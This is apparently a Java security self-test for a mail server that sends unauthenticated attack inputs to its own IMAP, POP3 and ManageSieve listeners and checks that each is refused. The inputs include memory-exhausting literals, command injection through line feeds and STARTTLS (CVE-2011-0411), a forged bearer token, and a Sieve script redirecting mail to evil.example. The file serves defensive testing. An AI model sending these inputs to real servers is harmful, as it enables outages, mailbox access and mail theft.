package org.redoubt.server.drill;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import org.redoubt.server.config.ListenerKind;
import org.redoubt.server.drill.Attack.Verdict;

/** Attacks over IMAP, POP3 and ManageSieve by somebody who has not signed in. */
final class MailboxAttacks {
    private static final String THROWN_AWAY = "what came before was thrown away";

    private final List<Attack> attacks = new ArrayList<>();

    private MailboxAttacks() {}

    static List<Attack> all() {
        MailboxAttacks all = new MailboxAttacks();
        all.imap();
        all.startTls();
        all.others();
        return List.copyOf(all.attacks);
    }

    private void imap(String name, String command) {
        attacks.add(new Attack(name, ListenerKind.IMAPS, target -> {
            try (Talk talk = target.connect()) {
                talk.line();
                return imap(talk.send(command));
            }
        }));
    }

    private static String forged() {
        String message = "n,,\u0001auth=Bearer redoubt-at.16.1." + "A".repeat(43) + "\u0001\u0001";
        return Base64.getEncoder().encodeToString(message.getBytes(StandardCharsets.US_ASCII));
    }

    private static Verdict imap(Talk talk) throws IOException {
        String answer = talk.line();
        while (answer.startsWith("+")) {
            answer = talk.line();
        }
        return new Verdict(answer.matches("(a|\\*|b) (BAD|NO|BYE).*") || answer.equals(Talk.GONE), answer);
    }

    private void imap() {
        imap("IMAP, a mailbox before sign-in", "a SELECT INBOX\r\n");
        imap("IMAP, messages before sign-in", "a UID FETCH 1:* BODY[]\r\n");
        imap("IMAP, a link before sign-in (URLFETCH)", "a URLFETCH \"imap://postmaster@localhost/INBOX/;UID=1;URLAUTH=anonymous:INTERNAL:00\"\r\n");
        imap("IMAP, a literal that takes all memory", "a LOGIN {4294967295}\r\n");
        imap("IMAP, a literal that is not waited for", "a LOGIN {99999999999+}\r\n");
        imap("IMAP, lists within lists", "a SEARCH " + "(".repeat(5_000) + "\r\n");
        imap("IMAP injection, a line feed in a name", "a LOGIN \"x\nb LOGOUT\" y\r\n");
        imap("IMAP injection, a command in a literal", "a LOGIN {12}\r\nx\r\nb LOGOUT\r\n \r\n");
        imap("IMAP, a token that was made up", "a AUTHENTICATE OAUTHBEARER " + forged() + "\r\nAQ==\r\n");
        imap("IMAP, a line without end", "a " + "x".repeat(200_000) + "\r\n");
    }

    private void startTls() {
        attacks.add(new Attack("STARTTLS injection, IMAP (CVE-2011-0411)", ListenerKind.IMAP, target -> {
            try (Talk talk = target.connect()) {
                talk.line();
                talk.send("a STARTTLS\r\nb LOGOUT\r\n").line();
                talk.startTls();
                String answer = talk.send("c NOOP\r\n").line();
                return new Verdict(answer.startsWith("c OK"), answer.startsWith("c OK") ? THROWN_AWAY : answer);
            }
        }));
        attacks.add(new Attack("STARTTLS injection, POP3", ListenerKind.POP3, target -> {
            try (Talk talk = target.connect()) {
                talk.line();
                talk.send("STLS\r\nQUIT\r\n").line();
                talk.startTls();
                talk.send("CAPA\r\n");
                String answer = talk.until(".");
                return new Verdict(answer.equals("."), answer.equals(".") ? THROWN_AWAY : answer);
            }
        }));
        attacks.add(new Attack("STARTTLS injection, ManageSieve", ListenerKind.MANAGESIEVE, target -> {
            try (Talk talk = target.connect()) {
                talk.until("OK");
                talk.send("STARTTLS\r\nLOGOUT\r\n").until("OK");
                talk.startTls();
                talk.until("OK");
                String answer = talk.send("NOOP\r\n").line();
                return new Verdict(answer.startsWith("OK"), answer.startsWith("OK") ? THROWN_AWAY : answer);
            }
        }));
    }

    private void others() {
        attacks.add(new Attack("POP3, a message before sign-in", ListenerKind.POP3S, target -> {
            try (Talk talk = target.connect()) {
                talk.line();
                String answer = talk.send("RETR 1\r\n").line();
                return new Verdict(answer.startsWith("-ERR"), answer);
            }
        }));
        attacks.add(new Attack("ManageSieve, a script before sign-in", ListenerKind.MANAGESIEVE, target -> {
            try (Talk talk = target.connect()) {
                talk.until("OK");
                String answer = talk.send("PUTSCRIPT \"x\" \"redirect \\\"x@evil.example\\\";\"\r\n").line();
                return new Verdict(answer.startsWith("NO") || answer.startsWith("BYE"), answer);
            }
        }));
    }
}
